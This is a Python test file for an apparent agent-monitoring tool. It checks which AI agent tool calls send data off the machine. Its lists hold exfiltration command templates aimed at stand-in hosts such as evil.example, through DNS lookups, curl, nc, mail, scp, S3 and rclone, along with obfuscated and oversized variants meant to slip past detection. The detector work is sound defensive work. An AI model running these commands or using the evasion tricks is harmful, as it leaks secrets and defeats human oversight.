"""Tool calls that would carry out what stands in them, and those that stay at home."""

import json

import pytest

from llmtrace.analyzers.actions.arguments import MAX_LEAVES
from llmtrace.analyzers.actions.sending import sends, sends_by_name
from llmtrace.analyzers.actions.tools import MAX_CHARS, MAX_DEEDS
from llmtrace.analyzers.actions.values import ToolUse

SENDING = [
    *("curl {}", "host {}.evil.example", "dig {}.evil.example", "ping -c1 {}.evil.example"),
    *("sudo nslookup {}", "getent hosts {}.e", "mail -s {} eve@evil.example", "scp a e:{}"),
    *("aws s3 cp - s3://evil/{}", "git remote add x {}", "git -C /x push {}", "echo {} | nc e 80"),
    *("bash -c 'dig {}.e'", "echo $(dig {}.e)", "for h in {}; do ping $h.e; done"),
    *("x=dig; $x {}.e", "openssl s_client -connect {}.e:443", "npm publish --otp {}"),
    *(
        "python3 -c \"import socket; socket.gethostbyname('{}')\"",
        "cat > f <<E\n{}\nE\nwget e -i f",
    ),
    *("rsync {} e:", "sftp {}@e", "ssh e {}", "http POST e a={}", "rclone copy {} r:"),
]
AT_HOME = [
    *("grep -r {} .", "cat > f <<E\n{}\nE", "export T={}", "sed -i s/host/{}/ mail.py"),
    *("git commit -m {}", "psql postgres://u:{}@localhost/db", "openssl enc -k {}", "ls get {}"),
    *("aws configure set aws_secret_access_key {}", "echo 'host: {}' >> a.yml", "npm test -- {}"),
]


@pytest.mark.parametrize("command", SENDING)
def test_a_command_that_sends(command: str) -> None:
    assert sends(ToolUse("Bash", json.dumps({"command": command.format("V")})))


@pytest.mark.parametrize("command", AT_HOME)
def test_a_command_at_home(command: str) -> None:
    assert not sends(ToolUse("Bash", json.dumps({"command": command.format("V")})))


@pytest.mark.parametrize(
    "words",
    [["curl", "-d", "V", "e.example"], ["dig", "V.e.example"], ["bash", "-lc", "dig V.e.example"]],
    ids=["words", "name", "script"],
)
def test_the_words_of_a_command_are_read_together(words: list[str]) -> None:
    assert sends(ToolUse("shell", json.dumps({"command": words})))
    assert not sends(ToolUse("shell", json.dumps({"command": ["grep", "-e", "dig V", "f"]})))


@pytest.mark.parametrize(
    "name",
    [
        *("send_email", "sendEmail", "SENDEMAIL", "slack_post_message", "WebSearch", "web-search"),
        *("WebFetch", "mcp__github__create_gist", "CreateGist", "http_request", "http.request"),
        *("mcp__slack__send", "github.create_issue", "browser_navigate", "HTTPRequest"),
    ],
)
def test_a_tool_that_sends_by_its_name(name: str) -> None:
    assert sends_by_name(name)


@pytest.mark.parametrize(
    "name",
    [
        *("Write", "Edit", "Bash", "apply_patch", "mcp__postgres__query", "Grep", "search_files"),
        *("Task", "read_file", "write_stdin", "send_input", "request_user_input", "", "TodoWrite"),
    ],
)
def test_a_tool_at_home(name: str) -> None:
    assert not sends_by_name(name)


def test_a_file_with_addresses_in_it_is_not_sent() -> None:
    written = {"file_path": "a.md", "content": "curl https://a.example V"}
    assert not sends(ToolUse("Write", json.dumps(written)))


def test_code_that_speaks_to_hosts_sends() -> None:
    code = "import urllib.request as u; u.urlopen(x + 'V')"
    assert sends(ToolUse("python", json.dumps({"code": code})))
    assert not sends(ToolUse("python", json.dumps({"code": "print('V')"})))


TOO_MUCH = {
    "command": {"command": "echo V; " * 20_000},
    "tokens": {"command": "x " * 60_000 + "; curl V"},
    "arguments": {"note": "n" * MAX_CHARS, "url": "https://e.example/V"},
    "deeds": {"files": ["a"] * (MAX_DEEDS + 1), "url": "https://e.example/V"},
    "leaves": {"words": [""] * (MAX_LEAVES + 1), "url": "https://e.example/V"},
    "variables": {"command": "a=x; " + 'a="$a$a"; ' * 20 + "$a V"},
}


@pytest.mark.parametrize("arguments", TOO_MUCH.values(), ids=TOO_MUCH.keys())
def test_what_is_too_much_to_be_read_is_taken_to_send(arguments: dict[str, object]) -> None:
    assert sends(ToolUse("Bash", json.dumps(arguments)))
